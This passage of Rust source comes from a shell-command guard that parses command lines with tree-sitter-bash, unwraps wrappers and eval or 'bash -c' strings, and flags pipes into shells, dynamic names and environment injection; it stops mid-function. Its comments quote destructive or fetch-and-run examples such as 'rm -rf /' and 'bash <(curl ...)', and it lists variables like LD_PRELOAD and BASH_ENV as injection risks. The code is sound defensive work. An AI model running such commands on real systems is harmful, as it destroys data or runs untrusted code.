//! The shell parse: tree-sitter-bash into simple commands, with wrappers unwrapped and code
//! hidden in strings (`bash -c`, `eval`, `ssh host CMD`, heredocs and pipes fed to shells)
//! parsed again.

use std::cell::RefCell;

use tree_sitter::{Node, Parser};

use crate::canon::{self, Word};

/// Deepest nesting of code-in-strings the parser follows before it gives up (and sandboxes).
const MAX_DEPTH: u32 = 8;
/// Deepest syntax-tree nesting the walker follows.
const MAX_NODE_DEPTH: u32 = 400;

/// Something about a command's structure that keeps it out of the allow tier.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Finding {
    /// The command name is an expansion (`$X -rf /`, `$(echo rm) -rf /`).
    DynamicName,
    /// Code run by a shell or `eval` is not a literal string.
    DynamicCode,
    /// A pipe feeds a shell or an interpreter.
    PipeIntoShell,
    /// A shell runs code from a process substitution (`bash <(curl ...)`).
    ProcessSubstitutionIntoShell,
    /// The input is not valid shell, or not fully understood.
    Unparsed,
    /// Code nested deeper than the parser follows.
    TooDeep,
    /// An environment assignment changes what the program loads or runs (`LD_PRELOAD=...`).
    EnvInjection,
    /// A build or test runner reads instructions that an earlier command of the line wrote
    /// (`printf ... > Makefile && make`).
    RunsWrittenFile,
    /// A command runs input it reads at run time as code (`xargs sh -c {}` fed by a pipe).
    CodeFromInput,
}

impl Finding {
    /// Why this finding keeps a command in the sandbox.
    pub fn reason(&self) -> &'static str {
        match self {
            Finding::DynamicName => {
                "the command name is an expansion, so what runs is unknown until run time"
            }
            Finding::DynamicCode => "a shell or eval runs code that is not a literal string",
            Finding::PipeIntoShell => {
                "a pipe feeds a shell or interpreter, which runs whatever arrives"
            }
            Finding::ProcessSubstitutionIntoShell => {
                "a shell runs code from a process substitution"
            }
            Finding::Unparsed => "the command could not be parsed as shell",
            Finding::TooDeep => "the command nests code deeper than the guard follows",
            Finding::EnvInjection => {
                "an environment variable changes what the program loads or runs"
            }
            Finding::RunsWrittenFile => {
                "a runner reads build or test instructions written earlier in the same command"
            }
            Finding::CodeFromInput => "a command runs text it reads at run time as code",
        }
    }
}

/// One simple command after unwrapping: what the matcher sees.
#[derive(Debug, Clone)]
pub struct SimpleCommand {
    /// Canonical words; the first is the command name.
    pub words: Vec<Word>,
    /// Source text the command came from (for explanations).
    pub text: String,
    /// Wrappers and code layers around it, outermost first (`sudo`, `bash -c`, `$(...)`).
    pub layers: Vec<String>,
    /// The pipeline it is a stage of, and its stage index.
    pub pipeline: Option<(u32, u32)>,
    /// Structural findings about this command.
    pub findings: Vec<Finding>,
    /// Code fed to the command on stdin (heredoc or here-string), unquoted.
    pub stdin_text: Option<String>,
    /// The unquoted argv before canonicalisation (script pre-review needs real paths).
    pub argv: Vec<String>,
}

impl SimpleCommand {
    /// The command name.
    pub fn name(&self) -> &str {
        self.words.first().map(|w| w.text.as_str()).unwrap_or("")
    }
}

/// The parse of a whole command line.
#[derive(Debug, Clone, Default)]
pub struct ParsedCommand {
    /// Every simple command, in source order, nested ones after their container.
    pub commands: Vec<SimpleCommand>,
    /// Findings about the line as a whole (parse errors).
    pub findings: Vec<Finding>,
    /// Variables the line assigns (`X=1 cmd`, `export X=1`, `env X=1`): their values in
    /// later words are not what the environment holds.
    pub assigned: Vec<String>,
}

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

fn with_parser<T>(f: impl FnOnce(&mut Parser) -> T) -> Result<T, String> {
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut p = Parser::new();
            p.set_language(&tree_sitter_bash::LANGUAGE.into())
                .map_err(|e| e.to_string())?;
            *slot = Some(p);
        }
        match slot.as_mut() {
            Some(p) => Ok(f(p)),
            None => Err("parser unavailable".into()),
        }
    })
}

/// Check that the bash grammar loads (done once when a guard is built).
pub(crate) fn check_grammar() -> Result<(), String> {
    with_parser(|_| ())
}

/// Parse a command line into simple commands.
pub fn parse(command: &str) -> ParsedCommand {
    parse_with(command, true)
}

/// Parse; `plain` lets plain lines skip tree-sitter (off only to test that it changes nothing).
fn parse_with(command: &str, plain: bool) -> ParsedCommand {
    let mut walker = Walker {
        next_pipeline: 0,
        nodes_deep: 0,
        plain,
        out: ParsedCommand::default(),
        written: Vec::new(),
        wrote_build_input: false,
    };
    walker.parse_code(command, 0, &[]);
    walker.out
}

struct Walker {
    next_pipeline: u32,
    nodes_deep: u32,
    plain: bool,
    out: ParsedCommand,
    /// Files written earlier in the line with literal content (`cat <<EOF > f.sh`): a shell
    /// that runs one later runs that content.
    written: Vec<(String, String)>,
    /// An earlier command wrote a file a build or test runner reads (`Makefile`, `conftest.py`).
    wrote_build_input: bool,
}

/// Files that build and test runners read as instructions, by file name.
const BUILD_INPUTS: &[&str] = &[
    "Makefile",
    "makefile",
    "GNUmakefile",
    "package.json",
    "conftest.py",
    "pytest.ini",
    "pyproject.toml",
    "setup.py",
    "setup.cfg",
    "tox.ini",
    "noxfile.py",
    "Cargo.toml",
    "build.rs",
    "justfile",
    "Justfile",
    "Rakefile",
    "CMakeLists.txt",
    "build.gradle",
    "build.gradle.kts",
    "pom.xml",
    "Taskfile.yml",
    "deno.json",
    ".npmrc",
];

/// Runners that read the files of [`BUILD_INPUTS`] from the working directory.
const BUILD_RUNNERS: &[&str] = &[
    "make", "gmake", "npm", "pnpm", "yarn", "bun", "npx", "pytest", "py.test", "tox", "nox",
    "cargo", "just", "rake", "cmake", "gradle", "gradlew", "mvn", "task", "deno", "pip", "pip3",
    "uv", "poetry", "python", "python3",
];

/// Whether a path names a file that a build or test runner reads as instructions.
fn is_build_input(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    BUILD_INPUTS.contains(&base) || base.ends_with(".mk")
}

#[derive(Clone, Default)]
struct Ctx {
    layers: Vec<String>,
    /// Findings that belong to the next command pushed (from its assignments).
    findings: Vec<Finding>,
    pipeline: Option<(u32, u32)>,
    redirects: Vec<String>,
    stdin_text: Option<String>,
}

/// Shells that run a `-c` string, stdin, or a script file.
const SHELLS: &[&str] = &[
    "bash",
    "sh",
    "zsh",
    "dash",
    "ksh",
    "mksh",
    "ash",
    "fish",
    "csh",
    "tcsh",
    "busybox-sh",
];
/// Interpreters that run code from stdin when given no script.
const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "node",
    "nodejs",
    "perl",
    "ruby",
    "php",
    "deno",
    "bun",
    "lua",
    "Rscript",
    "osascript",
    "pwsh",
];
/// Wrappers that only change how the inner command runs; they are not judged themselves.
const TRANSPARENT: &[&str] = &[
    "env",
    "nice",
    "ionice",
    "nohup",
    "timeout",
    "time",
    "stdbuf",
    "setsid",
    "command",
    "builtin",
    "exec",
    "xargs",
    "chrt",
    "taskset",
    "unbuffer",
    "flock",
    "caffeinate",
    "gtimeout",
    "parallel",
    "torsocks",
    "proxychains",
    "proxychains4",
    "strace",
    "ltrace",
    "catchsegv",
];
/// Variables that make any program load or run something else.
const INJECTION_VARS: &[&str] = &[
    "BASH_ENV",
    "ENV",
    "PROMPT_COMMAND",
    "PATH",
    "IFS",
    "SHELLOPTS",
    "BASHOPTS",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PERL5OPT",
    "PERL5LIB",
    "PERLLIB",
    "RUBYOPT",
    "RUBYLIB",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "GCONV_PATH",
    "LESSOPEN",
    "LESSCLOSE",
    "GIT_EXEC_PATH",
    "GIT_TEMPLATE_DIR",
    "GIT_CONFIG",
    "GIT_CONFIG_GLOBAL",
    "GIT_CONFIG_SYSTEM",
    "GIT_CONFIG_PARAMETERS",
    "GIT_CONFIG_COUNT",
    "GIT_DIR",
    "GIT_WORK_TREE",
    "GIT_INDEX_FILE",
];
/// Variables whose value is a command some program runs.
const CODE_VARS: &[&str] = &[
    "VISUAL",
    "GIT_SSH",
    "GIT_EXTERNAL_DIFF",
    "SHELL",
    "CC",
    "CXX",
    "LD",
    "AR",
    "TERMINAL",
    "BROWSER",
];
/// Wrappers that run the inner command with other privileges; judged themselves and unwrapped.
const PRIVILEGED: &[&str] = &["sudo", "doas", "pkexec", "run0"];

fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

impl Walker {
    fn parse_code(&mut self, code: &str, depth: u32, layers: &[String]) {
        if depth > MAX_DEPTH {
            self.out.findings.push(Finding::TooDeep);
            return;
        }
        if self.plain
            && let Some(line) = plain::parse(code)
            && self.nodes_deep + plain::depth(&line) <= MAX_NODE_DEPTH
        {
            let ctx = Ctx {
                layers: layers.to_vec(),
                ..Ctx::default()
            };
            self.walk_plain(&line, &ctx, depth);
            return;
        }
        let mapped = grammar_safe(code);
        let tree = match with_parser(|p| p.parse(mapped.as_bytes(), None)) {
            Ok(Some(tree)) => tree,
            _ => {
                self.out.findings.push(Finding::Unparsed);
                return;
            }
        };
        let root = tree.root_node();
        if root.has_error() {
            self.out.findings.push(Finding::Unparsed);
            if let Some(line) = heredoc_as_herestring_text(code) {
                // `cat <<EOF; a | b⏎body⏎EOF` is an error to tree-sitter-bash: the same lines
                // with the body as a here-string show what runs (still sandboxed at least).
                self.parse_code(&line, depth, layers);
                return;
            }
        }
        let ctx = Ctx {
            layers: layers.to_vec(),
            ..Ctx::default()
        };
        self.walk(root, code, &ctx, depth);
    }

    /// The walk over a plain line, node for node as over tree-sitter's tree (program, lists,
    /// pipelines, commands), so nested code sees the same depth.
    fn walk_plain(&mut self, line: &plain::Line<'_>, ctx: &Ctx, depth: u32) {
        self.nodes_deep += 1;
        for chain in line {
            // Lists nest to the left: the first two pipelines sit under every list, and each
            // list closes after its right-hand pipeline.
            let lists = chain.len().saturating_sub(1) as u32;
            self.nodes_deep += lists;
            for (i, pipeline) in chain.iter().enumerate() {
                if let [command] = pipeline.as_slice() {
                    self.plain_command(command, ctx, depth);
                } else {
                    self.nodes_deep += 1;
                    let id = self.next_pipeline;
                    self.next_pipeline += 1;
                    for (stage, command) in pipeline.iter().enumerate() {
                        let mut c = ctx.clone();
                        c.pipeline = Some((id, stage as u32));
                        if stage > 0 {
                            c.stdin_text = None;
                        }
                        self.plain_command(command, &c, depth);
                    }
                    self.nodes_deep -= 1;
                }
                if i > 0 {
                    self.nodes_deep -= 1;
                }
            }
        }
        self.nodes_deep -= 1;
    }

    /// [`Walker::command`] for a command of a plain line.
    fn plain_command(&mut self, command: &plain::Command<'_>, ctx: &Ctx, depth: u32) {
        self.nodes_deep += 1;
        let mut env_findings = Vec::new();
        for (text, value) in &command.assignments {
            let name = assignment_variable(text);
            self.assignment(name, value, false, &mut env_findings, ctx, depth);
        }
        let argv: Vec<String> = command.words.iter().map(|w| (*w).to_string()).collect();
        let dynamic = vec![false; argv.len()];
        let mut c = ctx.clone();
        c.findings = env_findings;
        self.unwrap(argv, dynamic, command.text.to_string(), &c, depth);
        self.nodes_deep -= 1;
    }

    /// One level deeper into the tree; `false` (with a `TooDeep` finding) past the limit.
    /// Deeply nested input (`((((...))))`) must not exhaust the stack: stop and sandbox.
    /// A `true` is paired with `self.nodes_deep -= 1` when the node is done.
    fn enter_node(&mut self) -> bool {
        if self.nodes_deep >= MAX_NODE_DEPTH {
            if !self.out.findings.contains(&Finding::TooDeep) {
                self.out.findings.push(Finding::TooDeep);
            }
            return false;
        }
        self.nodes_deep += 1;
        true
    }

    fn walk(&mut self, node: Node<'_>, src: &str, ctx: &Ctx, depth: u32) {
        if !self.enter_node() {
            return;
        }
        self.walk_node(node, src, ctx, depth);
        self.nodes_deep -= 1;
    }

    fn walk_node(&mut self, node: Node<'_>, src: &str, ctx: &Ctx, depth: u32) {
        match node.kind() {
            "command" => self.command(node, src, ctx, depth),
            "pipeline" => {
                let id = self.next_pipeline;
                self.next_pipeline += 1;
                let mut stage = 0;
                let mut after = Vec::new();
                self.pipeline_stages(node, src, ctx, depth, (id, &mut stage), &mut after);
                for part in after {
                    self.walk(part, src, ctx, depth);
                }
            }
            "redirected_statement" => {
                let mut c = ctx.clone();
                let mut cursor = node.walk();
                let mut body = None;
                if let Some(line) = heredoc_line_as_herestring(node, src) {
                    // tree-sitter-bash puts the rest of the line after `<<EOF` inside the
                    // heredoc redirect and misreads it (`cat <<EOF && a; b | c` as the command
                    // `a ; b`): the same line with the body as a here-string is parsed instead,
                    // after the body's own substitutions.
                    self.walk_substitutions(node, src, ctx, depth);
                    if line.is_empty() {
                        self.out.findings.push(Finding::Unparsed);
                    } else {
                        self.parse_code(&line, depth, &ctx.layers);
                    }
                    return;
                }
                for child in node.named_children(&mut cursor) {
                    match child.kind() {
                        "file_redirect" => {
                            if let Some(target) = output_target(child, src) {
                                c.redirects.push(target);
                            }
                            // Redirect targets may hold substitutions.
                            self.walk_substitutions(child, src, ctx, depth);
                        }
                        "heredoc_redirect" => {
                            c.stdin_text = heredoc_body(child, src);
                            self.walk_substitutions(child, src, ctx, depth);
                        }
                        "herestring_redirect" => {
                            let mut cur = child.walk();
                            let text = child
                                .named_children(&mut cur)
                                .last()
                                .map(|n| word_value(n, src).0);
                            c.stdin_text = text;
                            self.walk_substitutions(child, src, ctx, depth);
                        }
                        _ => body = Some(child),
                    }
                }
                match body {
                    Some(body) => self.walk(body, src, &c, depth),
                    // A bare `> file` truncates (creates) its target: judged as `:` with that
                    // redirect, so the target's class decides (`> ~/thesis.tex` is not "nothing
                    // runs").
                    None if c.redirects.len() > ctx.redirects.len() => {
                        let text = node_text(node, src).to_string();
                        self.push(vec![":".to_string()], text, &c, Vec::new());
                    }
                    None => {}
                }
            }
            "command_substitution" | "process_substitution" => {
                let mut c = Ctx {
                    layers: ctx.layers.clone(),
                    ..Ctx::default()
                };
                c.layers.push(if node.kind() == "command_substitution" {
                    "$(...)".into()
                } else {
                    "<(...)".into()
                });
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.walk(child, src, &c, depth);
                }
            }
            "ERROR" => {
                self.out.findings.push(Finding::Unparsed);
                self.walk_children(node, src, ctx, depth);
            }
            "heredoc_body" | "comment" => {}
            "variable_assignment" => {
                // `X=1` alone sets a shell variable that later words may expand.
                let name = assignment_variable(node_text(node, src)).to_string();
                if !self.out.assigned.contains(&name) {
                    self.out.assigned.push(name);
                }
                self.walk_children(node, src, ctx, depth);
            }
            "declaration_command" | "unset_command" => {
                // `export X=1`, `local y`: judged like a command named by its keyword.
                let mut argv = Vec::new();
                let mut findings = Vec::new();
                let mut cursor = node.walk();
                for child in node.children(&mut cursor) {
                    let text = match child.kind() {
                        "variable_assignment" => {
                            // `export BASH_ENV=/tmp/x`: judged like the same prefix assignment.
                            let name = assignment_variable(node_text(child, src));
                            let mut cur = child.walk();
                            let (value, dynamic) = child
                                .named_children(&mut cur)
                                .nth(1)
                                .map(|v| word_value(v, src))
                                .unwrap_or_default();
                            self.assignment(name, &value, dynamic, &mut findings, ctx, depth);
                            assignment_name(child, src)
                        }
                        _ => word_value(child, src).0,
                    };
                    if !text.is_empty() {
                        argv.push(text);
                    }
                }
                self.walk_substitutions(node, src, ctx, depth);
                self.subscripts(&argv, ctx, depth);
                let text = node_text(node, src).to_string();
                self.push(argv, text, ctx, findings);
            }
            _ => self.walk_children(node, src, ctx, depth),
        }
    }

    /// Walk the stages of a pipeline node as stages `*stage..` of pipeline `id`.
    ///
    /// tree-sitter-bash reads `a | b | c && d` as `a | (b | c && d)`: a list as the last stage.
    /// Bash runs `(a | b | c) && d`, and a pattern such as `find | rm` must see `find . | rm | cat
    /// && true` as one pipeline. So the list's leftmost part (a pipeline or a command) continues
    /// this pipeline, and its other parts go to `after`, in the order they run, to be walked
    /// outside the pipeline.
    fn pipeline_stages<'t>(
        &mut self,
        node: Node<'t>,
        src: &str,
        ctx: &Ctx,
        depth: u32,
        (id, stage): (u32, &mut u32),
        after: &mut Vec<Node<'t>>,
    ) {
        if !self.enter_node() {
            return;
        }
        let mut cursor = node.walk();
        let children: Vec<Node<'t>> = node
            .named_children(&mut cursor)
            .filter(|c| c.kind() != "comment")
            .collect();
        self.stage_list(children, 0, src, ctx, depth, (id, stage), after);
        self.nodes_deep -= 1;
    }

    /// The stages of a pipeline, `children` being its stage nodes from stage index `offset` on
    /// (1 when a heredoc's command was stage 0).
    #[allow(clippy::too_many_arguments)]
    fn stage_list<'t>(
        &mut self,
        children: Vec<Node<'t>>,
        offset: usize,
        src: &str,
        ctx: &Ctx,
        depth: u32,
        (id, stage): (u32, &mut u32),
        after: &mut Vec<Node<'t>>,
    ) {
        let last = (children.len() + offset).saturating_sub(1);
        for (i, child) in children.into_iter().enumerate() {
            let i = i + offset;
            let mut part = child;
            // Right-hand parts of each list level, outermost first.
            let mut levels = Vec::new();
            if i > 0 && i == last {
                while part.kind() == "list" {
                    let mut cur = part.walk();
                    let mut parts = part
                        .named_children(&mut cur)
                        .filter(|c| c.kind() != "comment");
                    let Some(first) = parts.next() else { break };
                    levels.push(parts.collect::<Vec<_>>());
                    part = first;
                }
            }
            if !levels.is_empty() && part.kind() == "pipeline" {
                self.pipeline_stages(part, src, ctx, depth, (id, &mut *stage), after);
            } else {
                let mut c = ctx.clone();
                c.pipeline = Some((id, *stage));
                // Stdin reaches only the first stage; the others read the pipe.
                if *stage > 0 {
                    c.stdin_text = None;
                }
                self.walk(part, src, &c, depth);
                *stage += 1;
            }
            after.extend(levels.into_iter().rev().flatten());
        }
    }

    fn walk_children(&mut self, node: Node<'_>, src: &str, ctx: &Ctx, depth: u32) {
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            // Stage and redirects belong to the direct command only, not nested statements.
            self.walk(child, src, ctx, depth);
        }
    }

    /// Visit substitutions nested anywhere inside `node` (arguments, strings, redirect targets).
    fn walk_substitutions(&mut self, node: Node<'_>, src: &str, ctx: &Ctx, depth: u32) {
        if matches!(node.kind(), "command_substitution" | "process_substitution") {
            self.walk(node, src, ctx, depth);
            return;
        }
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            self.walk_substitutions(child, src, ctx, depth);
        }
    }

    fn command(&mut self, node: Node<'_>, src: &str, ctx: &Ctx, depth: u32) {
        let mut env_findings = Vec::new();
        let mut argv = Vec::new();
        let mut dynamic = Vec::new();
        let mut c = ctx.clone();
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            match child.kind() {
                "variable_assignment" => {
                    self.walk_substitutions(child, src, ctx, depth);
                    let name = assignment_variable(node_text(child, src));
                    let mut cur = child.walk();
                    let value = child
                        .named_children(&mut cur)
                        .nth(1)
                        .map(|v| word_value(v, src));
                    let (value, dynamic) = value.unwrap_or_default();
                    self.assignment(name, &value, dynamic, &mut env_findings, ctx, depth);
                }
                "file_redirect" => {
                    if let Some(t) = output_target(child, src) {
                        c.redirects.push(t);
                    }
                    self.walk_substitutions(child, src, ctx, depth);
                }
                "herestring_redirect" => {
                    let mut cur = child.walk();
                    c.stdin_text = child
                        .named_children(&mut cur)
                        .last()
                        .map(|n| word_value(n, src).0);
                    self.walk_substitutions(child, src, ctx, depth);
                }
                "comment" => {}
                _ => {
                    let (value, is_dynamic) = word_value(child, src);
                    argv.push(value);
                    dynamic.push(is_dynamic);
                    self.walk_substitutions(child, src, ctx, depth);
                }
            }
        }
        if argv.is_empty() {
            return;
        }
        let text = node_text(node, src).to_string();
        c.findings = env_findings;
        self.unwrap(argv, dynamic, text, &c, depth);
    }

    /// `NAME=value` before a command (or after `env`): variables that make a program load or run
    /// something else are findings; variables whose value is a command (`GIT_PAGER`, `EDITOR`,
    /// `GIT_SSH_COMMAND`) have that value parsed as code.
    fn assignment(
        &mut self,
        name: &str,
        value: &str,
        dynamic: bool,
        findings: &mut Vec<Finding>,
        ctx: &Ctx,
        depth: u32,
    ) {
        if !self.out.assigned.iter().any(|a| a == name) {
            self.out.assigned.push(name.to_string());
        }
        if name.starts_with("TERRAPHIM_GUARD_") {
            // Settings of this guard: judged by the KG as the command `export NAME=`.
            let mut c = ctx.clone();
            c.findings = Vec::new();
            c.stdin_text = None;
            c.redirects = Vec::new();
            c.layers.push("assignment".into());
            self.push(
                vec!["export".into(), format!("{name}=")],
                format!("{name}={value}"),
                &c,
                Vec::new(),
            );
        }
        if INJECTION_VARS.contains(&name) || name.starts_with("LD_") || name.starts_with("DYLD_") {
            findings.push(Finding::EnvInjection);
            return;
        }
        let runs_code = CODE_VARS.contains(&name)
            || [
                "PAGER", "EDITOR", "_COMMAND", "_CMD", "ASKPASS", "_SSH", "RUNNER", "WRAPPER",
            ]
            .iter()
            .any(|s| name.ends_with(s));
        if runs_code {
            if dynamic {
                findings.push(Finding::DynamicCode);
            } else if !value.is_empty() {
                let mut layers = ctx.layers.clone();
                layers.push(format!("{name}="));
                self.parse_code(value, depth + 1, &layers);
            }
        }
    }

    /// Peel wrappers and code layers off one argv and push what remains.
    fn unwrap(
        &mut self,
        argv: Vec<String>,
        dynamic: Vec<bool>,
        text: String,
        ctx: &Ctx,
        depth: u32,
    ) {
        let mut findings = Vec::new();
        if argv.is_empty() || argv.len() != dynamic.len() {
            return;
        }
        if dynamic.first().copied().unwrap_or(false) {
            findings.push(Finding::DynamicName);
            self.push(argv, text, ctx, findings);
            return;
        }
        // tree-sitter-bash reads `_= rm -rf /` (an assignment whose value is empty, then the
        // command) as a command named `_=`; bash runs `rm`. Any leading word shaped like an
        // assignment is judged as one, and the command after it as the command.
        if argv.len() > 1 && is_assignment_word(&argv[0]) {
            let mut c = ctx.clone();
            let mut f = std::mem::take(&mut c.findings);
            let value = argv[0].split_once('=').map_or("", |(_, v)| v);
            self.assignment(
                assignment_variable(&argv[0]),
                value,
                dynamic[0],
                &mut f,
                ctx,
                depth,
            );
            c.findings = f;
            return self.unwrap(argv[1..].to_vec(), dynamic[1..].to_vec(), text, &c, depth);
        }
        let name = canon::command_basename(&canon::fold_lookalikes(&argv[0])).to_string();
        let rest = &argv[1..];
        let rest_dyn = &dynamic[1..];
        let layer = |what: &str| {
            let mut c = ctx.clone();
            c.layers.push(what.to_string());
            c
        };

        if name == "env" {
            let mut c = ctx.clone();
            let skip = wrapper_operands(&name, rest);
            for (w, d) in rest[..skip].iter().zip(&rest_dyn[..skip]) {
                if let Some((var, value)) = w.split_once('=')
                    && !w.starts_with('-')
                {
                    let mut f = std::mem::take(&mut c.findings);
                    self.assignment(var, value, *d, &mut f, ctx, depth);
                    c.findings = f;
                }
            }
            if skip < rest.len() {
                c.layers.push(wrapper_label(&name, &rest[..skip]));
                self.unwrap(
                    rest[skip..].to_vec(),
                    rest_dyn[skip..].to_vec(),
                    text,
                    &c,
                    depth,
                );
            } else {
                self.push(argv, text, &c, findings);
            }
            return;
        }
        if TRANSPARENT.contains(&name.as_str()) {
            if name == "command" && rest.first().is_some_and(|a| a == "-v" || a == "-V") {
                self.push(argv, text, ctx, findings);
                return;
            }
            let skip = wrapper_operands(&name, rest);
            if skip < rest.len() {
                let mut inner: Vec<String> = rest[skip..].to_vec();
                let mut inner_dyn = rest_dyn[skip..].to_vec();
                let mut c = layer(&wrapper_label(&name, &rest[..skip]));
                if name == "xargs" || name == "parallel" {
                    self.input_templates(
                        &name,
                        rest,
                        skip,
                        &mut inner,
                        &mut inner_dyn,
                        &mut c,
                        &text,
                        depth,
                    );
                }
                self.unwrap(inner, inner_dyn, text, &c, depth);
                return;
            }
            // A wrapper with nothing to run (`env`, `time`) is a command of its own.
            self.push(argv, text, ctx, findings);
            return;
        }
        if PRIVILEGED.contains(&name.as_str()) {
            let skip = wrapper_operands(&name, rest);
            let own: Vec<String> = argv[..=skip.min(rest.len())].to_vec();
            self.push(own, text.clone(), ctx, Vec::new());
            if skip < rest.len() {
                let c = layer(&wrapper_label(&name, &rest[..skip]));
                self.unwrap(
                    rest[skip..].to_vec(),
                    rest_dyn[skip..].to_vec(),
                    text,
                    &c,
                    depth,
                );
            }
            return;
        }
        if name == "watch" {
            let skip = wrapper_operands(&name, rest);
            if skip < rest.len() {
                let code = rest[skip..].join(" ");
                if rest_dyn[skip..].iter().any(|d| *d) {
                    findings.push(Finding::DynamicCode);
                }
                self.parse_code(&code, depth + 1, &layer("watch").layers);
            }
            self.push(argv[..=skip.min(rest.len())].to_vec(), text, ctx, findings);
            return;
        }
        if name == "busybox" && !rest.is_empty() {
            let c = layer("busybox");
            self.unwrap(rest.to_vec(), rest_dyn.to_vec(), text, &c, depth);
            return;
        }
        if name == "eval" {
            if rest_dyn.iter().any(|d| *d) {
                findings.push(Finding::DynamicCode);
                self.push(argv, text, ctx, findings);
            } else {
                let mut c = layer("eval");
                c.pipeline = None;
                self.parse_code(&rest.join(" "), depth + 1, &c.layers);
                // `eval` itself is a command: the KG may judge it.
                self.push(vec![argv[0].clone()], text, ctx, findings);
            }
            return;
        }
        if is_shell(&name) || name == "su" {
            if let Some(i) = dash_c_index(&name, rest) {
                let code_idx = i + 1;
                match (rest.get(code_idx), rest_dyn.get(code_idx)) {
                    (Some(code), Some(false)) => {
                        let c = layer(&format!("{name} -c"));
                        self.parse_code(code, depth + 1, &c.layers);
                        if name == "su" {
                            self.push(argv[..1].to_vec(), text, ctx, Vec::new());
                        }
                    }
                    _ => {
                        findings.push(Finding::DynamicCode);
                        self.push(argv, text, ctx, findings);
                    }
                }
                return;
            }
            if name == "su" {
                self.push(argv, text, ctx, findings);
                return;
            }
            let script = rest.iter().position(|a| !canon::is_flag(a) && a != "--");
            match script {
                Some(i)
                    if rest_dyn[i]
                        || rest[i].starts_with("/dev/fd/")
                        || rest[i].starts_with("/proc/self/fd") =>
                {
                    findings.push(Finding::ProcessSubstitutionIntoShell);
                }
                Some(i) => self.run_written(&rest[i], &name, ctx, depth),
                None => {
                    if let Some(body) = &ctx.stdin_text {
                        let c = layer(&format!("{name} <<stdin"));
                        self.parse_code(body, depth + 1, &c.layers);
                    }
                    if ctx.pipeline.is_some_and(|(_, stage)| stage > 0) {
                        findings.push(Finding::PipeIntoShell);
                        self.reparse_piped_literals(ctx, depth, &name);
                    }
                }
            }
            self.push(argv, text, ctx, findings);
            return;
        }
        if (name == "source" || name == ".")
            && let Some(file) = rest.iter().find(|a| !canon::is_flag(a))
        {
            self.run_written(file, &name, ctx, depth);
        }
        if BUILD_RUNNERS.contains(&name.as_str()) && self.wrote_build_input {
            findings.push(Finding::RunsWrittenFile);
        }
        self.subscripts(&argv, ctx, depth);
        self.program_options(&name, rest, rest_dyn, ctx, depth, &mut findings);
        if INTERPRETERS.contains(&name.as_str()) || name.starts_with("python3.") {
            let reads_stdin = rest.is_empty()
                || rest
                    .iter()
                    .all(|a| canon::is_flag(a) && a != "-c" && a != "-e")
                || rest.first().is_some_and(|a| a == "-");
            if reads_stdin && ctx.pipeline.is_some_and(|(_, stage)| stage > 0) {
                findings.push(Finding::PipeIntoShell);
            }
            self.push(argv, text, ctx, findings);
            return;
        }
        if name == "ssh" {
            let skip = wrapper_operands("ssh", rest);
            // rest[skip] is the host; everything after it is the remote command.
            if skip + 1 < rest.len() {
                let remote = rest[skip + 1..].join(" ");
                if rest_dyn[skip + 1..].iter().any(|d| *d) {
                    findings.push(Finding::DynamicCode);
                }
                let mut c = layer("ssh (remote)");
                c.pipeline = None;
                self.parse_code(&remote, depth + 1, &c.layers);
            }
            self.push(argv, text, ctx, findings);
            return;
        }
        if name == "find" {
            let mut i = 0;
            while i < rest.len() {
                if matches!(rest[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                    let start = i + 1;
                    let end = rest[start..]
                        .iter()
                        .position(|a| a == ";" || a == "+")
                        .map(|p| start + p)
                        .unwrap_or(rest.len());
                    if start < end {
                        let c = layer(&format!("find {}", rest[i]));
                        self.unwrap(
                            rest[start..end].to_vec(),
                            rest_dyn[start..end].to_vec(),
                            text.clone(),
                            &c,
                            depth,
                        );
                    }
                    i = end;
                }
                i += 1;
            }
            self.push(argv, text, ctx, findings);
            return;
        }
        self.push(argv, text, ctx, findings);
    }

    /// `echo "rm -rf /" | sh`: the literal text echoed into a shell is code; parse it.
    fn reparse_piped_literals(&mut self, ctx: &Ctx, depth: u32, shell: &str) {
        for code in self.piped_texts(ctx) {
            let mut layers = ctx.layers.clone();
            layers.push(format!("echo | {shell}"));
            self.parse_code(&code, depth + 1, &layers);
        }
    }

    /// What the previous stage of `ctx`'s pipeline writes when it is literal text: the words
    /// `echo` or `printf` print, or the heredoc or here-string that `cat` copies.
    fn piped_texts(&self, ctx: &Ctx) -> Vec<String> {
        let Some((id, stage)) = ctx.pipeline else {
            return Vec::new();
        };
        if stage == 0 {
            return Vec::new();
        }
        self.out
            .commands
            .iter()
            .filter(|c| c.pipeline == Some((id, stage - 1)))
            .filter_map(literal_output)
            .collect()
    }

    /// A shell runs a script file: when the line wrote that file with literal content, the
    /// content is parsed as code.
    fn run_written(&mut self, file: &str, shell: &str, ctx: &Ctx, depth: u32) {
        let file = canon::normalise_path(file);
        let code: Vec<String> = self
            .written
            .iter()
            .filter(|(path, _)| *path == file)
            .map(|(_, content)| content.clone())
            .collect();
        for code in code {
            let mut layers = ctx.layers.clone();
            layers.push(format!("{shell} {file} (written above)"));
            self.parse_code(&code, depth + 1, &layers);
        }
    }

    /// `xargs` and `parallel` run their command once per input: when the input is literal text
    /// piped in (or `parallel`'s `::: ARGS`), the command is judged with it put in place (in the
    /// `-I` replacement string, or appended); when it is not, a template that hands the input to
    /// a shell as code is a finding.
    #[allow(clippy::too_many_arguments)]
    fn input_templates(
        &mut self,
        name: &str,
        rest: &[String],
        skip: usize,
        inner: &mut Vec<String>,
        inner_dyn: &mut Vec<bool>,
        c: &mut Ctx,
        text: &str,
        depth: u32,
    ) {
        let mut replace = None;
        let mut inputs: Vec<String> = Vec::new();
        if name == "xargs" {
            let mut i = 0;
            while i < skip {
                let a = rest[i].as_str();
